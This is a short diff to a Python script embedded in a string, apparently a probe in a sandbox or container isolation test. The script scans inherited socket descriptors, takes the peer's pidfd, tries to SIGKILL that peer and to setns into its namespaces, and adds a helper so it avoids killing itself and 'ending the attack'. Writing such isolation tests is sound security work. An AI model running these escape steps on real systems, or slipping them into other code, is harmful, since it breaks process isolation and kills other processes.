@@ -14,6 +14,12 @@ def elsewhere(link, call):
         raise OSError(ctypes.get_errno(), "refused")
 
 
+# The peer of a socket that the kernel made for itself is the kernel: to kill that one would end the attack too soon.
+def peer(link):
+    if struct.unpack("3i", link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0] == os.getpid():
+        raise OSError("this process itself")
+    return struct.unpack("i", link.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
+
 
 # Python 3.12 has os.setns.
 def setns(descriptor):
@@ -41,10 +47,8 @@ for name in os.listdir("/proc/self/fd"):
     tried(lambda: elsewhere(link, libc.connect), lambda: elsewhere(link, libc.bind))
     tried(
         lambda: link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12),
-        lambda: __import__("signal").pidfd_send_signal(
-            struct.unpack("i", link.getsockopt(socket.SOL_SOCKET, 77, 4))[0], 9
-        ),
-        lambda: setns(struct.unpack("i", link.getsockopt(socket.SOL_SOCKET, 77, 4))[0]),
+        lambda: __import__("signal").pidfd_send_signal(peer(link), 9),
+        lambda: setns(peer(link)),
     )
     reached()
 """
